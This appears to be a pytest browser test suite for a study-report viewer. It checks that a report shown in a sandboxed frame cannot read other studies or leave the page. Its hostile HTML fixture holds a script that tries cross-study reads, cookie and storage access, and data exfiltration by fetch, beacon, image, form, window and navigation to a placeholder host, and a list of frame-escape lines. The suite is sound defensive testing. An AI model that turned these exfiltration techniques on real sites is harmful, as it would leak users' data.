"""A report from somebody else, in a real browser: it reads no other study, and sends nothing out."""

import json
import threading
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from importlib import resources

import pytest

from tests.browser import chromium, needs_chromium, opened, scrolls_sideways, serious_faults
from tests.results.builder import build
from tests.undrawn import draw_nothing
from tests.view.serving import serving

pytestmark = [needs_chromium, pytest.mark.slow]

# Each way is tried by itself, and what it brought is written into the page.
HOSTILE = """<!doctype html><title>mine</title><h1>Mine</h1><p id="found">[]</p>
<img src="OUT/beacon.png"><link rel="stylesheet" href="OUT/style.css"><script src="OUT/script.js"></script>
<iframe id="other" src="/study/other/report.html"></iframe><iframe src="OUT/frame"></iframe>
<img id="picture" src="/study/other/heatmap.png">
<p><a href="OUT/link" id="link">out</a> <a href="OUT/top" target="_top" id="top">out</a></p>
<script>
const found = [];
const tell = (what, got) => {
  found.push([what, String(got)]);
  document.getElementById("found").textContent = JSON.stringify(found);
};
const attempt = async (what, act) => { try { tell(what, await act()); } catch (error) { tell(what, "no"); } };
const request = (url) => new Promise((yes, no) => {
  const one = new XMLHttpRequest();
  one.onload = () => yes(one.responseText); one.onerror = no; one.open("GET", url); one.send();
});
addEventListener("load", async () => {
  for (const url of ["/", "/study/other/cells.csv", "/study/other/update", "/study/other/report.html"]) {
    await attempt("fetch " + url, async () => (await fetch(url)).text());
    await attempt("request " + url, () => request(url));
  }
  await attempt("origin", () => origin);
  await attempt("around", () => parent.document.body.innerHTML);
  await attempt("within", () => document.getElementById("other").contentDocument.body.innerHTML);
  await attempt("picture", () => {
    const canvas = document.createElement("canvas"), pen = canvas.getContext("2d");
    const picture = document.getElementById("picture");
    if (!picture.naturalWidth) throw new Error("it was not loaded");
    pen.drawImage(picture, 0, 0); return canvas.toDataURL();
  });
  await attempt("storage", () => localStorage.length);
  await attempt("cookie", () => document.cookie);
  await attempt("out by fetch", () => fetch("OUT/fetch", { mode: "no-cors" }));
  await attempt("out by beacon", () => { if (!navigator.sendBeacon("OUT/beacon")) throw new Error("no"); });
  await attempt("out by image", () => { new Image().src = "OUT/image?" + found.length; });
  await attempt("out by form", () => {
    const form = document.createElement("form"); form.action = "OUT/form";
    document.body.append(form); form.submit();
  });
  await attempt("out by window", () => { if (!open("OUT/window")) throw new Error("no"); });
  await attempt("out by the page around", () => { top.location = "OUT/top"; });
  tell("done", "");
});
</script>"""
SECRET = "the secret of the other study"


@pytest.fixture(scope="module")
def browser():
    with chromium() as started:
        yield started


@contextmanager
def elsewhere():
    """Another server, and what it was asked."""
    asked = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        def do_POST(self):
            self.do_GET()

        def log_message(self, *_):
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as running:
        thread = threading.Thread(target=running.serve_forever, args=(0.01,), daemon=True)
        thread.start()
        yield f"http://127.0.0.1:{running.server_address[1]}", asked
        running.shutdown()
        thread.join()


def studies(root, page):
    for name in ("mine", "other"):
        folder = build(root / name, ["crop", "color"], lambda *_: 0.5)
        draw_nothing(folder, SECRET.encode())
    (root / "mine" / "report.html").write_text(page)


# After a way out that a browser refuses, these say nothing.
SILENT = {"out by beacon", "out by image", "out by form", "out by the page around"}
LEAVING = [
    "location = 'OUT/leave?' + document.getElementById('found').textContent",
    "document.getElementById('link').click()",
    "document.getElementById('top').click()",
    "document.head.innerHTML += '<meta http-equiv=refresh content=\"0; url=OUT/refresh\">'",
]


@pytest.mark.parametrize("address", ["/study/mine/", "/study/mine/report.html"])
def test_a_hostile_report_reads_no_other_study_and_calls_nobody(tmp_path, browser, address):
    with elsewhere() as (out, asked), serving(tmp_path) as port:
        studies(tmp_path, HOSTILE.replace("OUT", out))
        page, _ = opened(browser, f"http://127.0.0.1:{port}{address}")
        frame = next(one for one in page.frames if one.url.endswith("mine/report.html"))
        frame.get_by_text('["done",""]').wait_for(timeout=10_000, state="attached")
        found = dict(json.loads(frame.locator("#found").inner_text()))
        page.wait_for_timeout(300)
        assert found.pop("origin") == "null"
        assert {what: got for what, got in found.items() if got != "no" and what not in SILENT} == {
            "done": ""
        }
        assert asked == []
        assert page.url.endswith("/study/mine/")  # the frame, also where the report itself was asked for


def test_a_framed_report_cannot_leave(tmp_path, browser):
    with elsewhere() as (out, asked), serving(tmp_path) as port:
        studies(
            tmp_path,
            "<p id=found>x</p>"
            + '<a href="OUT/link" id="link">out</a>'.replace("OUT", out)
            + f'<a href="{out}/top" target="_top" id="top">out</a>',
        )
        page, _ = opened(browser, f"http://127.0.0.1:{port}/study/mine/")
        for way in LEAVING:
            page.reload()
            page.frame_locator("iframe").locator("#found").wait_for()
            page.frames[1].evaluate(way.replace("OUT", out))
            page.wait_for_timeout(300)
            assert (way, asked) == (way, [])
        assert page.url.endswith("/study/mine/")


@pytest.mark.parametrize(("width", "page_of"), [(390, ""), (1440, "report.html")])
def test_an_address_leads_to_the_section_in_the_frame(tmp_path, browser, width, page_of):
    from playwright.sync_api import expect

    with serving(tmp_path) as port:
        studies(tmp_path, '<p style="height: 4000px">long</p><h2 id="far">Far</h2><a href="#top">up</a>')
        page, said = opened(browser, f"http://127.0.0.1:{port}/study/mine/{page_of}#far", width=width)
        far = page.frame_locator("iframe").locator("#far")
        expect(far).to_be_in_viewport()
        assert not scrolls_sideways(page)
        assert page.evaluate("document.documentElement.scrollHeight <= innerHeight")  # one scroll bar
        page.frame_locator("iframe").get_by_text("up").click()
        expect(far).not_to_be_in_viewport()
        assert said == []
        assert serious_faults(page) == []


def test_code_can_be_copied_from_the_frame(tmp_path, browser):
    script = (resources.files("ablation.report.page") / "templates" / "script.js").read_text()
    code = '<figure><button class="copy" hidden>Copy</button><pre><code>crop = 1</code></pre></figure>'
    with serving(tmp_path) as port:
        studies(tmp_path, f"{code}<script>{script}</script>")
        page, _ = opened(browser, f"http://127.0.0.1:{port}/study/mine/")
        page.context.grant_permissions(["clipboard-read"])
        page.frame_locator("iframe").get_by_role("button", name="Copy").click()
        page.frame_locator("iframe").get_by_text("Copied").wait_for(timeout=5_000)
        page.bring_to_front()
        page.locator("a").focus()
        assert page.evaluate("navigator.clipboard.readText()") == "crop = 1"
